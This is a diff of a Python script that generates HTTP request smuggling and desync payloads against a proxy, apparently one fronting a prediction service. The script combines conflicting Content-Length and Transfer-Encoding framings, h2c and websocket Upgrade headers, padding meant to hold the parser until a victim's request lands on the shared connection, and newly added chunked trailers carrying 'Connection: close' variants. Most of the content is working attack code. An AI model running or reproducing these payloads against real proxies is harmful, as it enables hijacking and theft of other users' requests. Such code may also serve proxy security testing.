@@ -37,10 +37,12 @@ CARRIERS = [("POST", "/predict"), ("GET", "/livez"), ("POST", "/nowhere"), ("OPT
 ASKED = ["Connection: Upgrade\nUpgrade: h2c\n", "Connection: Upgrade\nUpgrade: websocket\n", "Upgrade: h2c\n", ""]
 #: The empty lines keep the parser busy until the victim's request has taken its place on the proxy's connection.
 PADDING = [b"\r\n" * 150_000, b"", b"\n"]
+#: What ends a connection that the proxy keeps for the next caller, if anybody heeds it.
+TRAILERS = [b"Connection: close", b"Proxy-Connection: close", b"connection: x, close"]
 
 
 def attacks() -> Iterator[list[bytes]]:
-    """Every carrier, upgrade, framing and padding, in packets."""
+    """Every carrier, upgrade, framing and padding, and every trailer, in packets."""
     for carrier, asked, padding in itertools.product(CARRIERS, ASKED, PADDING):
         body = padding + SMUGGLED * 3
         yield [request(*carrier, headers=asked + sized(body)), body]
@@ -48,6 +50,9 @@ def attacks() -> Iterator[list[bytes]]:
         yield [request(*carrier, headers=f"{asked}Content-Length: {'0' * 100}"), body]
         yield [request(*carrier, headers=f"{asked}{sized(body)}\nTransfer-Encoding: chunked"), b"0\r\n\r\n" + body]
         yield [request(*carrier, headers=f"{asked}Transfer-Encoding: gzip, chunked"), chunked(body, 65_536)]
+    for carrier, trailer in itertools.product(CARRIERS, TRAILERS):
+        ended = chunked(LOOT)[:-2] + trailer + b"\r\n\r\n"
+        yield [request(*carrier, headers="Transfer-Encoding: chunked", body=ended)]
 
 
 async def attack(port: int, packets: list[bytes]) -> None:
